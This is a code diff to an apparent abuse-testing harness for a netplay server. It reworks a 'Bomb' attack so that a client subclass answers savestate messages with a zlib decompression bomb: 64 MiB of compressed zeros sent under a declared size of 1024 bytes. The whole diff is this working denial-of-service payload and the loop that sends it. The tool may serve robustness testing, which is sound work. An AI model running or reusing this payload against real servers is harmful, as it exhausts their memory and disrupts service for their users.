@@ -3,33 +3,34 @@ import zlib
 
 from abuse.attack import Attack, netplay_client
 
+PACKED = zlib.compress(bytes(64 << 20))
+
+
+class Bomber(netplay_client.Client):
+    """Gives a state that inflates to far more than it says."""
+
+    thrown = 0
+
+    def say(self, number, payload=b""):
+        if number == netplay_client.LOAD_SAVESTATE:
+            payload = payload[:4] + struct.pack(">I", 1024) + PACKED
+            Bomber.thrown += 1
+        super().say(number, payload)
+
 
 class Bomb(Attack):
     name = "bomb"
-    what = "serves a state that inflates to far more than it says"
+    what = "serves states that inflate to far more than they say"
 
     def run(self):
-        packed = zlib.compress(bytes(64 << 20))
         while not self.stop.is_set():
             source = self.source()
-            first = self.member(source, nick="bomb", crc=0xB0B0 + self.count)
-            if first is None:
-                self.stop.wait(0.05)
-                continue
-            self.pump([first], 0.2)
-            other = self.member(source, nick="other", crc=0xB0B0 + self.count)
-            pair = [one for one in (first, other) if one]
-            while first in pair and not first.asked and not self.stop.is_set():
-                self.attempt(other.pump) if other else None
-                first.asked = False
-                before = len(first.unsent)
-                self.attempt(first.pump)
-                if first.ended or len(first.unsent) > before:
-                    break
-                self.stop.wait(0.01)
-                break
-            first.say(netplay_client.LOAD_SAVESTATE,
-                      struct.pack(">II", first.over, 1024) + packed)
-            self.pump(pair, 0.3)
+            content = 0xB0B0 + self.count % 64
+            pair = [self.member(source, Bomber, nick="bomb", crc=content)]
+            self.pump([one for one in pair if one], 0.1)
+            pair.append(self.member(source, nick="other", crc=content))
+            pair = [one for one in pair if one]
+            self.pump(list(pair), 0.2)
             for one in pair:
                 one.close()
+            self.deeds = Bomber.thrown
